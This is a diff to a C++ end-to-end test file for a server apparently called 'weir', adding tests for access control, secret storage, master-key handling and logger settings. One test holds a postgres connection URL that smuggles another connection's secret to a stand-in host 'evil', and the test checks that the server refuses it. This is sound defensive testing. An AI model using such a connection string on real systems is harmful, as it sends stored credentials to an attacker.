@@ -3,6 +3,7 @@
 #include <gtest/gtest.h>
 
 #include <csignal>
+#include <filesystem>
 #include <set>
 
 #include "e2e/weir_server.hpp"
@@ -233,7 +234,8 @@ TEST_F(Access, ConfigurationKeepsToWhatItMayReach) {
     Json const stealing{{"id", "thief"},
                         {"connector", "postgres"},
                         {"config", {{"url", "postgres://u:${secret:conn.shop.url}@evil/db"}}}};
-    Answer const refused = host().call("POST", "/replication/connections", stealing, as(token));
+    EXPECT_EQ(host().call("POST", "/replication/connections", stealing, as(token)).status, 403u);
+    Answer const refused = host().post("/replication/connections", stealing);
     EXPECT_EQ(refused.status, 422u) << refused;
     EXPECT_EQ(refused.code(), "replication.secret_of_another") << refused;
 }
@@ -251,6 +253,31 @@ TEST_F(Access, SecretsOnlyGoIn) {
     EXPECT_EQ(host().get("/audit").text.find("kept.db"), npos);
     EXPECT_EQ(host().call("DELETE", "/secrets/place").status, 204u);
     EXPECT_EQ(host().call("DELETE", "/secrets/place").status, 404u);
+}
+
+TEST_F(Access, AKeyThatIsMissingIsNotMadeAnew) {
+    EXPECT_EQ(host().call("PUT", "/secrets/a", {{"value", "x"}}).status, 201u);
+    stop();
+    std::string const key = data() + "/master.key";
+    std::filesystem::rename(key, key + ".kept");
+    Ran const start = weir({"serve", "--data-dir", data(), "--listen", "127.0.0.1:0"});
+    EXPECT_EQ(start.code, 2) << start;
+    EXPECT_NE(start.err.find("put it back"), npos) << start;
+    EXPECT_FALSE(std::filesystem::exists(key));
+    std::filesystem::rename(key + ".kept", key);
+    EXPECT_EQ(host().get("/secrets").body.at("items").size(), 1u);
+}
+
+TEST_F(Access, ALoggerIsThereBeforeItSpeaks) {
+    for (char const* name : {"sqlite", "generator", "replication", "cron"}) {
+        Answer const set = host().call("PUT", std::string{"/loggers/"} + name,
+                                       {{"level", "debug"}, {"ttl_seconds", 60}});
+        EXPECT_EQ(set.status, 200u) << set;
+        EXPECT_EQ(set.body.at("level"), "debug");
+    }
+    Answer const near = host().call("PUT", "/loggers/replicaton", {{"level", "debug"}});
+    EXPECT_EQ(near.status, 404u);
+    EXPECT_NE(near.text.find("replication"), npos) << near;
 }
 
 TEST_F(Access, ConditionsHoldForDocumentsOfPlugins) {
